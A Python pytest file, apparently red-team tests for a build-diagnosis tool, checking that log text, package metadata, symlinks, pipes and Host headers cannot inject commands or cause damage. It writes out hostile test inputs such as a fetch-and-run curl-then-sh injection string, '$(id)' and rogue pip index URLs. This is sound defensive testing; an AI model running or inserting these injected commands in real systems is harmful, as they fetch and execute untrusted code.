"""A second red team's attacks: files that people hand each other, and what they could make of our own words."""

from __future__ import annotations

import os
import shlex
import sys
from collections.abc import Sequence
from http.client import HTTPConnection
from pathlib import Path

import pytest

from rekindle.api import audit
from rekindle.build.run import folders
from rekindle.cli import main
from rekindle.core import files, paths, run
from rekindle.core.command import Shell
from rekindle.core.errors import BadInput, NotFound
from rekindle.diagnose import fix
from rekindle.diagnose import report as diagnose_report
from rekindle.diagnose.diagnosis import diagnose_text
from rekindle.fleet import matrix_file
from rekindle.install import installer
from rekindle.knowledge.logs.signatures import causes
from rekindle.model.environment import Environment
from rekindle.web import report
from rekindle.wheels.shelf import serve

EVIL = "/x; curl -o y http:/e/y; sh y"


@pytest.mark.parametrize(
    "log",
    [
        f"fatal: detected dubious ownership in repository at '{EVIL}'\n",
        f"PermissionError: [Errno 13] Permission denied: '{EVIL}'\n",
    ],
)
def test_a_log_adds_no_command_to_ours(log: str) -> None:
    commands = diagnose_text(log).causes[0].whole.commands
    assert any(EVIL in each for each in commands)
    for each in commands:
        assert ";" not in shlex.split(each) and "curl" not in shlex.split(each)


def test_a_log_adds_no_option_to_ours() -> None:
    log = "ERROR: Could not find a version that satisfies the requirement -revil (from versions: none)\n"
    assert not any("-revil" in each for each in diagnose_text(log).causes[0].whole.commands)


@pytest.mark.parametrize("value", [EVIL, "-rx", 'a" & calc & "', "$(id)", "a b"])
@pytest.mark.parametrize("system", ["linux", "windows"])
def test_whatever_a_log_says_is_a_part_of_one_word(system: str, value: str) -> None:
    templates = {step.command for cause in causes() for step in cause.fix if step.command}
    assert len(templates) > 50
    for template in templates:
        filled = {name: "USE_X" if name in fix._OUR_WORDS else value for name in fix._FIELD.findall(template)}
        made = fix.command_of(template, system, filled)
        if made is None or not filled:
            continue
        if made.told:
            quoted = made.replace(f'"{value}', "").replace(f'{value}"', "")
            assert value not in quoted
        elif not set(filled) <= fix._OUR_WORDS:
            assert sum(value in str(word) for word in (*made.words, *made.environment.values())) > 0
            if made.shell is not Shell.CMD and not made.environment:
                assert any(value in word for word in shlex.split(made.spell(Shell.SH)))


def _installed(site: Path, folder: str, name: str, version: str, module: str) -> None:
    info = site / folder
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n", encoding="utf-8")
    (info / "RECORD").write_text(f"{module},,\n", encoding="utf-8")
    (site / module).parent.mkdir(exist_ok=True)
    (site / module).write_bytes(b"\x7fELF")


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("--index-url=http://127.0.0.1:9/", "1.0"),
        ("good @ http://127.0.0.1:9/x.whl", "1.0"),
        ("good", "1.0 --index-url http://127.0.0.1:9/"),
        ("good", "@ http://127.0.0.1:9/x.whl"),
    ],
)
def test_an_environment_gives_pip_no_options(tmp_path: Path, name: str, version: str) -> None:
    site = tmp_path / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    _installed(site, "evil-1.0.dist-info", name, version, "evil/_C.cpython-311-x86_64-linux-gnu.so")
    _installed(site, "fine-1.0.dist-info", "fine", "1.0", "fine/_C.cpython-311-x86_64-linux-gnu.so")
    words = [word for step in audit(tmp_path).steps for each in step.commands for word in each.words]
    assert "fine==1.0" in words
    assert not any("127.0.0.1" in str(word) for word in words)


def _environment(root: Path) -> Environment:
    python = root / "bin" / "python"
    python.parent.mkdir()
    python.touch()
    return Environment(
        root=str(root),
        os=paths.system(),
        kind="venv",
        python=None,
        site_packages=(),
        interpreter=str(python),
        has_headers=False,
    )


def test_uv_does_not_obey_the_folder_one_stands_in(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A `uv.toml` there named the index that torch was taken from."""
    started: list[object] = []

    def call(words: Sequence[str], **options: object) -> run.Result:
        started.append(options.get("cwd"))
        return run.Result(args=tuple(words), code=0)

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(installer.run, "call", call)
    tool = installer.Uv(_environment(tmp_path), "uv")
    asked = installer.Request(requirements=("torch==2.7.1",))
    tool.changes(asked, tmp_path)
    tool.install(asked, tmp_path)
    assert started == [Path(tmp_path.anchor)] * 2


def test_uv_installs_the_copy_that_was_looked_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (wheel := tmp_path / "torch-2.7.1-cp312-cp312-linux_x86_64.whl").write_bytes(b"ours")
    asked = installer.Request(requirements=(str(wheel),))
    said: list[str] = []

    def call(words: Sequence[str], **_: object) -> run.Result:
        said.extend(words)
        return run.Result(args=tuple(words), code=0)

    monkeypatch.setattr(installer.run, "call", call)
    tool = installer.Uv(_environment(tmp_path), "uv")
    (copy,) = tool.download(asked, tmp_path / "kept")
    wheel.write_bytes(b"another")
    tool.install(asked, tmp_path / "kept")
    assert copy.read_bytes() == b"ours" and str(copy) in said and str(wheel) not in said


@pytest.mark.skipif(sys.platform == "win32", reason="UNVERIFIED: Wine follows such a link otherwise")
def test_a_lock_that_is_a_link_empties_nothing(tmp_path: Path) -> None:
    """The releases of filelock that we admit differ in whether they follow it."""
    mine = tmp_path / "mine"
    mine.write_text("precious", encoding="utf-8")
    (tmp_path / "lock").symlink_to(mine)
    with pytest.raises(BadInput, match="is a link"), files.locked(tmp_path / "lock", BadInput("busy")):
        pass
    assert mine.read_text(encoding="utf-8") == "precious"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no such files in folders")
@pytest.mark.parametrize("name", ["compiles.jsonl", "logs/configure.log"])
def test_a_pipe_in_the_folder_of_a_build_is_not_waited_for(tmp_path: Path, name: str) -> None:
    (tmp_path / "logs").mkdir()
    (tmp_path / ".ninja_log").write_text("# ninja log v5\n0\t100\t0\ta.o\tabc\n", encoding="utf-8")
    (tmp_path / "journal.jsonl").touch()
    os.mkfifo(tmp_path / name)
    assert len(report.build_report(tmp_path).timeline.bars) == 1


def test_a_name_that_no_file_can_have_is_no_fault_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    assert main.run(["inspect", "a" * 5000]) == NotFound.exit_code
    assert "internal error" not in capsys.readouterr().err


@pytest.mark.parametrize("word", ["9" * 400, "**/*.json", "../../**/x", "**x", "*" * 400])
def test_a_matrix_names_snapshots_that_can_be_there(tmp_path: Path, word: str) -> None:
    with pytest.raises(NotFound, match="no snapshot"):
        matrix_file.snapshots_of(matrix_file.MatrixFile(machines=word), tmp_path)


def test_nothing_behind_a_junction_is_removed_with_a_build(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "precious").touch()
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "j").symlink_to(tmp_path / "mine", target_is_directory=True)
    monkeypatch.setattr(Path, "is_symlink", lambda _: False)
    folders.remove(tmp_path / "b")
    assert (tmp_path / "mine" / "precious").exists() and not (tmp_path / "b").exists()


@pytest.mark.parametrize(("name", "status"), [("127.0.0.1", 200), ("localhost:1", 200), ("evil.example", 421)])
def test_a_shelf_of_this_computer_answers_to_its_names_only(tmp_path: Path, name: str, status: int) -> None:
    """A stranger's page in the browser here comes by a name of its own that it made lead to 127.0.0.1."""
    (tmp_path / "simple").mkdir()
    (tmp_path / "simple" / "index.html").touch()
    with serve.server(tmp_path, "127.0.0.1", 0) as address:
        connection = HTTPConnection(address.removeprefix("http://"), timeout=10)
        connection.request("GET", "/simple/", headers={"Host": name})
        assert connection.getresponse().status == status
        connection.close()


@pytest.mark.parametrize("end", ["", "-----END RSA PRIVATE KEY-----\nerror: it failed\n"])
def test_the_lines_of_a_key_are_not_quoted_one_by_one(end: str) -> None:
    body = "".join(f"MIIEpAIBAAKCAQEAabcdEFGH0123456789+/abcdEFGH0123456789+/{number:04}\n" for number in range(30))
    answer = diagnose_text(f"begun\n-----BEGIN RSA PRIVATE KEY-----\n{body}{end}")
    assert "MIIEpAIB" not in answer.to_json()
    assert "MIIEpAIB" not in diagnose_report.text(answer, everything=True)
